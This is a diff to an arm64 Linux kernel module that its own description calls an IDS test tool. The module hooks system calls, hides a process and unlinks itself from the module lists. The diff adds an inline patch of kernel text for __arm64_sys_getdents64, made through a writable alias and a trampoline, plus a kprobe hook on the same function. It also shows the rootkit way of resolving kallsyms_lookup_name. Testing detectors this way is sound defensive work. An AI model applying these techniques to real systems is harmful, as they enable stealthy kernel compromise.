@@ -24,10 +24,18 @@
  *                   the trampoline's pointer to `vectors`, a read-only quad at the start of a
  *                   page in [A, B) (the trampoline's pages after tramp_vectors), which every
  *                   entry from user mode loads into VBAR_EL1
+ *   inline_hook=1   patch kernel text: the first instruction of __arm64_sys_getdents64 (the
+ *                   `mov x9, x30` of its ftrace entry, free to overwrite) becomes a branch to
+ *                   a trampoline in this module that counts the call (`calls`) and resumes the
+ *                   handler after the patch. `b` when the module is within 128 MiB, else
+ *                   `adrp x16, tramp; br x16` over the entry's two instructions
+ *   kprobe_hook=1   register a kprobe (a BRK written into kernel text) on the same handler
+ *                   with a pre_handler that counts calls
  *
  * The kernel's kallsyms has no data symbols, so the caller passes the runtime address of
  * sys_call_table. The table is read-only data: the slot is written through a temporary
- * writable mapping (vmap) of the table's physical page; kernel text is never patched.
+ * writable mapping (vmap) of the table's physical page; kernel text likewise (inline_hook),
+ * with the caches cleaned to the point of unification on both mappings.
  * Both unlinks run under stop_machine(): the locks that guard these lists are not exported,
  * and with every CPU in the stopper no lock holder or RCU reader (this kernel's RCU is not
  * preemptible) is in the middle of either list.
@@ -40,6 +48,7 @@
 #include <linux/file.h>
 #include <linux/fs.h>
 #include <linux/kallsyms.h>
+#include <linux/kprobes.h>
 #include <linux/magic.h>
 #include <linux/mm.h>
 #include <linux/module.h>
@@ -104,6 +113,13 @@ module_param(tramp_start, ulong, 0444);
 module_param(tramp_end, ulong, 0444);
 MODULE_PARM_DESC(tramp_start, "where to look for the KPTI trampoline's data (for vbar=1)");
 MODULE_PARM_DESC(tramp_end, "end of that range");
+static bool inline_hook;
+module_param(inline_hook, bool, 0444);
+MODULE_PARM_DESC(inline_hook, "branch from the start of __arm64_sys_getdents64 into this module");
+
+static bool kprobe_hook;
+module_param(kprobe_hook, bool, 0444);
+MODULE_PARM_DESC(kprobe_hook, "put a kprobe on __arm64_sys_getdents64");
 
 static atomic_long_t calls = ATOMIC_LONG_INIT(0);
 static atomic_t in_hook = ATOMIC_INIT(0);
@@ -502,7 +518,7 @@ static syscall_fn_t *tramp_slot;	/* the trampoline's `.quad vectors` (KPTI) */
 
 /* A text symbol's address, the way rootkits find what is not exported: kallsyms_lookup_name
  * through a kprobe's address resolution. */
-static unsigned long text_symbol(const char *name)
+static unsigned long kallsyms_symbol(const char *name)
 {
 	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
 	unsigned long (*lookup)(const char *name);
@@ -544,7 +560,7 @@ static u32 branch(unsigned long from, unsigned long to)
 
 static int redirect_vectors(void)
 {
-	vmalloc_range_fn alloc = (vmalloc_range_fn)text_symbol("__vmalloc_node_range");
+	vmalloc_range_fn alloc = (vmalloc_range_fn)kallsyms_symbol("__vmalloc_node_range");
 	bool kpti = arm64_kernel_unmapped_at_el0();
 	unsigned long lo, hi, i;
 
@@ -613,8 +629,193 @@ static int unlink_module(void *mod)
 	return 0;
 }
 
+/* -- kernel text: inline patch and kprobe ------------------------------------------------ */
+
+#define TEXT_TARGET "__arm64_sys_getdents64"
+#define A64_NOP 0xd503201fu
+
+void mamoru_inline_count(void);
+void mamoru_inline_tramp(void);
+unsigned long mamoru_inline_resume;	/* where the trampoline goes back to */
+
+void mamoru_inline_count(void)
+{
+	atomic_long_inc(&calls);
+}
+
+/*
+ * Entered by a branch from the patched handler with its arguments in place: counts the call
+ * and resumes the handler after the patched instructions (x9, x16 are free at a function's
+ * entry; x9 only ever held the ftrace entry's copy of x30). Page-aligned, so that one adrp
+ * reaches it. `bti c` (hint 34) admits the `br x16` on CPUs with BTI.
+ */
+asm("	.pushsection .text, \"ax\"\n"
+    "	.balign 4096\n"
+    "	.globl mamoru_inline_tramp\n"
+    "	.type mamoru_inline_tramp, %function\n"
+    "mamoru_inline_tramp:\n"
+    "	hint 34\n"
+    "	stp x29, x30, [sp, #-32]!\n"
+    "	mov x29, sp\n"
+    "	stp x0, x1, [sp, #16]\n"
+    "	bl mamoru_inline_count\n"
+    "	ldp x0, x1, [sp, #16]\n"
+    "	ldp x29, x30, [sp], #32\n"
+    "	adrp x16, mamoru_inline_resume\n"
+    "	ldr x16, [x16, :lo12:mamoru_inline_resume]\n"
+    "	br x16\n"
+    "	.size mamoru_inline_tramp, . - mamoru_inline_tramp\n"
+    "	.popsection\n");
+
+static u32 *patched;		/* the handler's first instruction, once patched */
+static u32 saved[2];
+static int npatched;
+
+/* The runtime address of a text symbol: kallsyms_lookup_name is not exported, a kprobe's is. */
+static unsigned long text_symbol(const char *name, unsigned int offset)
+{
+	struct kprobe kp = { .symbol_name = name, .offset = offset };
+	unsigned long addr;
+
+	if (register_kprobe(&kp))
+		return 0;
+	addr = (unsigned long)kp.addr - offset;
+	unregister_kprobe(&kp);
+	return addr;
+}
+
+/* Writes one instruction of kernel text through a writable alias of its page. */
+static int write_text(u32 *where, u32 insn)
+{
+	unsigned long addr = (unsigned long)where;
+	phys_addr_t pa = addr - kimage_voffset;
+	struct page *page;
+	void *alias;
+	u32 *w;
+
+	if (!pfn_valid(PHYS_PFN(pa)))
+		return -EFAULT;
+	page = pfn_to_page(PHYS_PFN(pa));
+	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	if (!alias)
+		return -ENOMEM;
+	w = alias + offset_in_page(addr);
+	WRITE_ONCE(*w, cpu_to_le32(insn));
+	caches_clean_inval_pou((unsigned long)w, (unsigned long)(w + 1));
+	vunmap(alias);
+	flush_icache_range(addr, addr + 4);	/* the real VA, and every CPU resynchronised */
+	return 0;
+}
+
+static u32 a64_b(unsigned long from, unsigned long to)
+{
+	return 0x14000000u | (((u32)((long)(to - from) >> 2)) & 0x03ffffffu);
+}
+
+static u32 a64_adrp_x16(unsigned long from, unsigned long to)
+{
+	long pages = ((long)(to & PAGE_MASK) - (long)(from & PAGE_MASK)) >> 12;
+	u32 imm = (u32)pages & 0x1fffffu;
+
+	return 0x90000010u | ((imm & 3u) << 29) | ((imm >> 2) << 5);
+}
+
+static int inline_patch(void)
+{
+	unsigned long fn = text_symbol(TEXT_TARGET, 8), tramp = (unsigned long)mamoru_inline_tramp;
+	long dist = (long)(tramp - fn);
+	u32 *at = (u32 *)fn;
+	int err;
+
+	if (!fn) {
+		pr_err(PFX "cannot find %s\n", TEXT_TARGET);
+		return -ENOENT;
+	}
+	saved[0] = le32_to_cpu(READ_ONCE(at[0]));
+	saved[1] = le32_to_cpu(READ_ONCE(at[1]));
+	if (saved[1] != A64_NOP) {
+		pr_err(PFX "%s+4 is %08x, not the ftrace entry's NOP\n", TEXT_TARGET, saved[1]);
+		return -EBUSY;
+	}
+	if (dist > -(128L << 20) + 4096 && dist < (128L << 20) - 4096) {
+		mamoru_inline_resume = fn + 4;
+		npatched = 1;
+		err = write_text(at, a64_b(fn, tramp));
+	} else {
+		/* adrp first (harmless alone: x16 is free), then the br that uses it. */
+		mamoru_inline_resume = fn + 8;
+		npatched = 2;
+		err = write_text(at, a64_adrp_x16(fn, tramp));
+		if (!err)
+			err = write_text(at + 1, 0xd61f0200u);	/* br x16 */
+	}
+	if (err) {
+		pr_err(PFX "cannot patch %s: %d\n", TEXT_TARGET, err);
+		if (npatched == 2)
+			write_text(at, saved[0]);
+		return err;
+	}
+	patched = at;
+	pr_info(PFX "patched %s at %px: branch to %px\n", TEXT_TARGET, at, mamoru_inline_tramp);
+	return 0;
+}
+
+static void inline_unpatch(void)
+{
+	if (!patched)
+		return;
+	if (npatched == 2)
+		write_text(patched + 1, saved[1]);	/* the br first: adrp alone is harmless */
+	write_text(patched, saved[0]);
+	/* Nobody can still be in the trampoline once every CPU went through a quiescent state:
+	 * it never sleeps, and this kernel does not preempt kernel code. */
+	synchronize_rcu();
+	pr_info(PFX "restored %s\n", TEXT_TARGET);
+	patched = NULL;
+}
+
+static int probe_pre(struct kprobe *p, struct pt_regs *regs)
+{
+	atomic_long_inc(&calls);
+	return 0;
+}
+
+static struct kprobe probe = { .symbol_name = TEXT_TARGET, .pre_handler = probe_pre };
+static bool probed;
+
+static int kprobe_attach(void)
+{
+	int err;
+
+	/* The handler's first instructions are its ftrace entry, which kprobes refuse here
+	 * (no KPROBES_ON_FTRACE): probe the first instruction after it. */
+	probe.offset = 8;
+	err = register_kprobe(&probe);
+	if (err) {
+		pr_err(PFX "register_kprobe(%s+%u): %d\n", TEXT_TARGET, probe.offset, err);
+		return err;
+	}
+	probed = true;
+	pr_info(PFX "kprobe at %px (%s+%u)\n", probe.addr, TEXT_TARGET, probe.offset);
+	return 0;
+}
+
+static void kprobe_detach(void)
+{
+	if (probed)
+		unregister_kprobe(&probe);
+	probed = false;
+}
+
+static void text_undo(void)
+{
+	kprobe_detach();
+	inline_unpatch();
+}
+
 static void undo(void)
 {
+	text_undo();
 	restore_vectors();
 	restore_banner();
 	unhook_more();
@@ -639,6 +840,10 @@ static int __init mamoru_attack_init(void)
 		err = change_banner();
 	if (!err && vbar)
 		err = redirect_vectors();
+	if (!err && inline_hook)
+		err = inline_patch();
+	if (!err && kprobe_hook)
+		err = kprobe_attach();
 	if (err) {
 		undo();
 		return err;
@@ -658,4 +863,4 @@ static void __exit mamoru_attack_exit(void)
 module_init(mamoru_attack_init);
 module_exit(mamoru_attack_exit);
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("Mamoru IDS test tool: hooks a system call, hides a process and itself");
+MODULE_DESCRIPTION("Mamoru IDS test tool: hooks a system call or kernel text, hides a process and itself");
